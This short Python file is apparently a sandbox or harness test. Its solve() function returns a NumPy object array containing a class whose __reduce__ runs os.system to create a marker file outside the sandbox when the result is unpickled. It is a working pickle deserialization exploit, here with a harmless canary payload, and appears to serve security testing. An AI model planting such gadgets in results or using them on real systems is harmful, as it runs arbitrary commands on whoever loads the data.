"""Returns a NumPy array of objects, which NumPy itself would carry as a pickle."""

import os

import numpy

import targets


class Command:
    def __reduce__(self):
        return os.system, (f"touch {targets.OUTSIDE}/{targets.TOKEN}-unpickled",)


def solve(question):
    return numpy.array([Command()], dtype=object)
